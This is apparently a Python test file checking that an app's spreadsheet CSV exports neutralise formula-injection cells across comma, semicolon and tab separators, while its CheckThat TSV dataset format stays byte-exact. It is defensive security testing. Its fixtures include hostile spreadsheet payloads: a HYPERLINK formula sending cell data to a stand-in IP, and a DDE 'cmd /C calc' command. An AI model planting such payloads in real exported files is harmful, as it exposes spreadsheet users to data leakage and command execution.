"""Which exports guard spreadsheet formulas and which stay byte-true: a CSV meant for a spreadsheet shows
a cell starting with = + - @ as text ('-prefixed), while the dataset's own format (CheckThat TSV) is
written unchanged, because the scorers and our loader read it back as data. Real SQLite annotation store,
real CheckThat train rows with hostile texts put in."""

from __future__ import annotations

import csv
import io

from debate.adjudication.annotations import AnnotationStore
from debate.adjudication.hardcases import from_upload
from debate.datasets import load_checkthat
from debate.sharing import exports
from tests.conftest import data_path

FORMULAS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1"]


def _hostile_checkthat(path) -> None:
    items = load_checkthat(data_path("checkthat2025_4a/ct_train.tsv"))[: len(FORMULAS)]
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, delimiter="\t", lineterminator="\n")
        w.writerow(["index", "text", "labels"])
        for item, text in zip(items, FORMULAS):
            w.writerow([item.id, text, "[" + ", ".join("1.0" if item.gold[c] == "YES" else "0.0" for c in "123") + "]"])


def test_the_spreadsheet_csv_guards_formulas_and_the_dataset_tsv_round_trips(tmp_path):
    f = tmp_path / "hostile.tsv"
    _hostile_checkthat(f)
    spec = from_upload("hostile.tsv", f.read_bytes())
    s = AnnotationStore(tmp_path / "a.db")
    qid = s.create_queue(spec)
    for c in spec.cases:
        s.set_label(qid, c.key, "=ann", "YES")  # an annotator's name becomes a column header

    cells = [c for row in csv.reader(io.StringIO(s.export(qid, "cases"))) for c in row]
    assert any(c.startswith("label:") and "=ann" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells  # every formula shown as text
    assert {"'" + t for t in FORMULAS} <= set(cells)

    out = tmp_path / "back.tsv"
    out.write_text(s.export(qid, "native"), encoding="utf-8")
    assert [i.text for i in load_checkthat(out)] == FORMULAS  # the dataset format: unchanged, byte for byte


# -- locales whose spreadsheets separate cells with ";" (or read a tab-separated paste) ---------------
# A spreadsheet set to ";" opens the app's comma-separated CSV by splitting at every ";", and at every line
# break whose quotes it no longer pairs (they open mid-cell once "," is not the separator): whatever follows
# such a character starts a cell of its own, so a guard on the cell's first character alone is not enough.
SPLIT_FORMULAS = [
    'costs; =HYPERLINK("http://198.51.100.7/","x")',
    'a;"@SUM(1+1)',
    "x,-2+3",
    "one\n=cmd|' /C calc'!A0",
    "tab\t+1",
    "cr\r@A1",
    "\t=1",
    "\r=1",
    "=1;=2",
    "-",
    "a ;\t=1",
]
SEPARATORS = (",", ";", "\t", "\r", "\n")


def _pieces(text: str) -> list[str]:
    """Every cell some spreadsheet could read from `text`: split at each separator and line break whatever
    the quotes say, with the spaces and quotes before the first character removed."""
    pieces = [text]
    for sep in SEPARATORS:
        pieces = [p for piece in pieces for p in piece.split(sep)]
    return [p.lstrip(' "') for p in pieces]


def _runnable(text: str) -> list[str]:
    return [p for p in _pieces(text) if p[:1] in ("=", "+", "-", "@")]


def test_every_formula_start_is_guarded_whatever_the_separator():
    from debate.sanitize import csv_text

    rows = [{"id": f"r{i}", "text": t} for i, t in enumerate(SPLIT_FORMULAS + FORMULAS)]
    for sep in (",", ";", "\t"):
        out = csv_text(["id", "text"], rows, delimiter=sep)
        cells = [c for row in csv.reader(io.StringIO(out, newline=""), delimiter=sep) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (sep, cells)
        assert not _runnable(out), (sep, _runnable(out))  # nor when a spreadsheet splits it another way


def test_the_apps_csv_exports_split_at_semicolons_hold_no_formula(tmp_path):
    """The real exports a person downloads (a debate's turns, the Library's list, an annotation queue's
    cases), their hostile texts read as a ";" spreadsheet (and a tab one) would read them."""
    from debate.events import DebateStarted, TurnFinished, Verdict
    from debate.store import DebateStore

    store = DebateStore(tmp_path / "s.sqlite")
    claim = 'A claim; =HYPERLINK("http://198.51.100.7/","open")'
    store.create_debate({"claim": claim, "protocol": "council", "task": "checkthat", "category": 1}, "d1")
    evs = [
        DebateStarted(
            debate_id="d1",
            protocol="council",
            task="checkthat",
            category=1,
            claim=claim,
            lineup=[{"agent": "A", "role": "member", "model": "local:x"}],
        ),
        *[
            TurnFinished(turn_id=f"t{i}", agent="A", role="member", model="local:x", phase="vote", text=t, label="NO")
            for i, t in enumerate(SPLIT_FORMULAS)
        ],
        Verdict(label="NO", explanation="because;@SUM(1+1)\n-1", source="majority"),
    ]
    for i, ev in enumerate(evs):
        ev.seq = i
        store.append_event("d1", ev)
    rows = "id,text\n" + "".join(f'c{i},"{t.replace(chr(34), chr(34) * 2)}"\n' for i, t in enumerate(SPLIT_FORMULAS))
    spec = from_upload("cases.csv", rows.encode(), labels=["YES", "NO"])
    ann = AnnotationStore(tmp_path / "a.db")
    qid = ann.create_queue(spec)
    ann.set_label(qid, spec.cases[0].key, "ann;=x", "YES")
    for name, text in (
        ("turns", exports.export_csv(store, "d1")),
        ("list", exports.library_csv(store, store.list())),
        ("cases", ann.export(qid, "cases")),
        ("adjudicated", ann.export(qid, "csv")),
    ):
        assert not _runnable(text), (name, _runnable(text))
        kept = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]  # read as written: all there
        assert any("HYPERLINK" in c for c in kept) or name == "adjudicated", name
